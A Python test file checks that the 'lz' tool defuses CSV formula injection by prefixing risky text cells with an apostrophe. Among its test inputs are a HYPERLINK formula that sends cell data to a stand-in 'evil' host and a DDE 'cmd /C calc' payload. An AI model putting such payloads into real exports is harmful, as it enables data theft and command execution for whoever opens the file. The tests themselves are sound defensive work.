"""Issue 10, item 3: CSV formula injection. Every CSV `lz` writes puts its cells through
`report.tabular`: a text cell beginning with `=`, `+`, `-`, `@`, tab or CR is written with
a leading `'`; numbers stay numbers (a negative one included)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

from tests.clirunner import lz
from tests.hostile.outputs import hostile

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_cells() -> None:
    from lianzheng.report import tabular

    cell = tabular.cell
    assert cell('=HYPERLINK("http://evil/?"&A1,"click")') == '\'=HYPERLINK("http://evil/?"&A1,"click")'
    assert [cell(t + "1") for t in TRIGGERS] == ["'" + t + "1" for t in TRIGGERS]
    assert cell("-5") == "'-5"  # text that looks like a number is still text
    assert [cell(-5), cell(-2.5), cell(Fraction(13, 5)), cell(Decimal("-1.0")), cell(12)] == ["-5", "-2.5", "2.6", "-1", "12"]
    assert [cell(None), cell(""), cell("违规受理"), cell("a=b")] == ["", "", "违规受理", "a=b"]


def test_grade_csv_neutralises_every_formula(tmp_path: Path) -> None:
    repo = hostile("csv-formulas", tmp_path)
    result = lz(["grade", str(repo), "--format", "csv", "--no-cache"])
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(result.stdout[1:])))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)], [c for c in cells if c.startswith(TRIGGERS)]
    by_id = {row[0]: row for row in rows[1:]}
    fin = by_id["'-2+3"]
    assert fin[1] == '\'=HYPERLINK("http://evil/?"&A1,"click")'
    assert fin[2] == "'@SUM(1+1)*cmd|' /C calc'!A0/+出纳岗"
    assert fin[4:10] == ["2", "2", "2", "2", "2", "2"]  # numbers as numbers
    assert by_id["R-P1-01"][1] == "'\t=1+1"
